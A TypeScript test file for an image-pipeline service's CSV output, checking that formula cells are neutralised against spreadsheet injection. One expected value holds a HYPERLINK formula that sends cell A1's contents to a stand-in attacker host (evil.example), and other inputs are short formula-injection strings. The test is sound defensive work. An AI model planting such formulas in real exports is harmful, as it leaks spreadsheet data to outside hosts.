import { readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { FIXTURE_REQUEST_ID } from '@imgpipe/schemas';
import {
  InMemoryOutput,
  InMemoryStore,
  ManualClock,
  RecordingPublisher,
  quietLogger,
} from '../testing/in-memory';
import { goldenEvents, PUBLIC_BASE_PRODUCTS } from '../testing/golden-request';
import { createMaterializer } from './materializer';
import { neutraliseCell } from './output-csv';
import type { PublicUrls } from './urls';

const golden = (name: string): Buffer =>
  readFileSync(path.join(__dirname, '..', '..', 'test', 'golden', name));

async function outputCsvFor(urls: PublicUrls, events = goldenEvents()): Promise<Buffer> {
  const output = new InMemoryOutput();
  const materializer = createMaterializer({
    store: new InMemoryStore(),
    output,
    publisher: new RecordingPublisher(),
    clock: new ManualClock(),
    urls,
    logger: quietLogger,
    settings: {
      orphanTimeoutMs: 60_000,
      stallTimeoutMs: 3_600_000,
      recoveryGraceMs: 30_000,
      cacheMaxRequests: 100,
    },
  });
  await materializer.apply({ name: 'RequestAccepted', value: events.accepted });
  // Results in reverse order: the CSV follows input positions, not arrival.
  for (const result of [...events.results].reverse()) await materializer.apply(result);
  const csv = output.objects.get(`results/${events.accepted.requestId}.csv`);
  if (!csv) throw new Error('no output CSV written');
  return csv;
}

describe('output CSV', () => {
  it('matches the golden file: formula cells neutralised, failed images leave empty positions', async () => {
    const csv = await outputCsvFor({
      publicBaseUrl: 'http://127.0.0.1:8080/',
      outputPublicBaseUrl: null,
    });
    expect(csv.toString('utf8')).toBe(golden('output-injection-and-failures.csv').toString('utf8'));
  });

  it('uses the public base URL for output images when one is configured', async () => {
    const csv = await outputCsvFor(
      { publicBaseUrl: 'http://127.0.0.1:8080', outputPublicBaseUrl: 'https://cdn.example.net' },
      goldenEvents(FIXTURE_REQUEST_ID, PUBLIC_BASE_PRODUCTS),
    );
    expect(csv.toString('utf8')).toBe(golden('output-public-base.csv').toString('utf8'));
  });

  it('reads back with a standard CSV parser as the same cells, one record per product', async () => {
    const csv = await outputCsvFor({
      publicBaseUrl: 'http://127.0.0.1:8080',
      outputPublicBaseUrl: null,
    });
    const records: string[][] = parse(csv, { bom: true });
    expect(records).toHaveLength(11);
    expect(records[0]).toEqual(['S. No.', 'Product Name', 'Input Image Urls', 'Output Image Urls']);
    expect(records[2]![1]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(records[3]).toEqual(["'-3", "'+SUM(1,2)", 'https://cdn.example.com/p/3/a.jpg', '']);
    expect(records[10]![1]).toBe('Line\nbreak');
    const outputs = records[1]![3]!.split(',');
    expect(outputs).toHaveLength(3);
    expect(outputs[1]).toBe('');
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['@A1', "'@A1"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ['\0x', "'\0x"],
    ['\uFF0B1', "'\uFF0B1"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['', ''],
  ])('neutralises %j as %j', (input, expected) => {
    expect(neutraliseCell(input)).toBe(expected);
  });
});
